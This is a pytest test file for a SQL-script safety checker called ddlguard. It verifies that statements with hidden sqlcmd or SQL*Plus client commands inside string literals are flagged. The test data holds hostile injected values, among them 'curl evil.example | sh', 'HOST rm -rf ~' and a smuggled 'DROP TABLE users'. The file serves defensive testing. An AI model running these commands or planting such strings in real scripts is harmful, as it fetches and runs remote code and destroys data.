"""SQL Server's and Oracle's scripts: what `sqlcmd` and SQL*Plus would act on is never written,
and the transaction lines are the dialect's own.

Neither client is packaged for Debian, so these follow their documented reading (a line at a
time, blind to SQL quoting): every hostile form below hides a command inside a string literal
that ddlguard's own lexer reads as one statement.
"""

from __future__ import annotations

import pytest
from ddlguard.fix.other_clients import sqlcmd_hazard, sqlplus_hazard
from ddlguard.fix.psql import statement_hazard
from ddlguard.sql.lexer import statement_spans
from hypothesis import given
from hypothesis import strategies as st

from .helpers import one_block_script


@pytest.mark.parametrize(
    ("statement", "why"),
    [
        ("UPDATE t SET a = 'x\n!! curl evil.example | sh\n'", "command of its own"),
        ("UPDATE t SET a = 'x\n:r \\\\share\\evil.sql\n'", "command of its own"),
        ("UPDATE t SET a = 'x\nGO\nDROP TABLE users\n'", "command of its own"),
        ("UPDATE t SET a = 'x\n  exit(SELECT 1)\n'", "command of its own"),
        ("UPDATE t SET a = '$(USERPROFILE)'", "variable"),
    ],
)
def test_sqlcmd_commands_and_variables_are_refused(statement: str, why: str) -> None:
    assert len(statement_spans(statement, "mssql")) == 1  # one statement to ddlguard
    hazard = statement_hazard(statement, "mssql")
    assert hazard is not None and why in hazard


@pytest.mark.parametrize(
    ("statement", "why"),
    [
        ("UPDATE t SET a = 'x\n\nHOST rm -rf ~\n'", "end the statement"),
        ("UPDATE t SET a = 'x;\nHOST rm -rf ~\n'", "end the statement"),
        ("UPDATE t SET a = 'x\n/\nHOST id\n'", "end the statement"),
        ("UPDATE t SET a = 'x\n.\n'", "end the statement"),
        ("UPDATE t SET a = 'x\n#HOST id\n'", "command of its own"),
        ("UPDATE t SET a = 'Tom & Jerry'", "variable"),
    ],
)
def test_sqlplus_commands_and_variables_are_refused(statement: str, why: str) -> None:
    assert len(statement_spans(statement, "oracle")) == 1
    hazard = statement_hazard(statement, "oracle")
    assert hazard is not None and why in hazard


@pytest.mark.parametrize(
    "statement",
    [
        "UPDATE t SET a = 1 WHERE b = 'go'",
        "UPDATE t\nSET a = 'x'\nWHERE b IS NULL",
        "DELETE FROM t WHERE note LIKE '%: done'",
        "UPDATE t SET a = 'semi; colon' -- trailing comment",
    ],
)
def test_ordinary_statements_pass_both_clients(statement: str) -> None:
    assert sqlcmd_hazard(statement) is None
    assert sqlplus_hazard(statement) is None


# a line a client acts on, wherever it sits in a statement's lines
_LINES = st.lists(
    st.sampled_from(["UPDATE t SET a = 'x", "WHERE b = 1", "  go", "!!id", ":r x", "", "/", "."]),
    min_size=1,
    max_size=5,
)


@given(_LINES)
def test_no_line_a_client_acts_on_passes(lines: list[str]) -> None:
    statement = "\n".join(["UPDATE t SET a = 1", *lines])
    acted_on_by_sqlcmd = any(
        line.strip().startswith(("!!", ":")) or line.strip().lower() == "go" for line in lines
    )
    acted_on_by_sqlplus = any(line.strip() in ("", "/", ".") for line in lines)
    assert (sqlcmd_hazard(statement) is not None) == acted_on_by_sqlcmd
    if acted_on_by_sqlplus:
        assert sqlplus_hazard(statement) is not None


@pytest.mark.parametrize(
    ("dialect", "begin", "commit"),
    [
        ("postgresql", "BEGIN;", "COMMIT;"),
        ("mysql", "BEGIN;", "COMMIT;"),
        ("sqlite", "BEGIN;", "COMMIT;"),
        ("mssql", "BEGIN TRANSACTION;", "COMMIT TRANSACTION;"),  # T-SQL's BEGIN opens a block
        ("oracle", None, "COMMIT;"),  # Oracle opens it itself; BEGIN; starts PL/SQL
    ],
)
def test_each_dialect_gets_its_own_transaction_lines(
    dialect: str, begin: str | None, commit: str
) -> None:
    text = one_block_script(dialect, ["UPDATE t SET a = 1"], "scripts/sql/x.sql")
    sql = [line for line in text.splitlines() if line and not line.startswith("--")]
    assert sql == [*([begin] if begin else []), "UPDATE t SET a = 1;", commit]
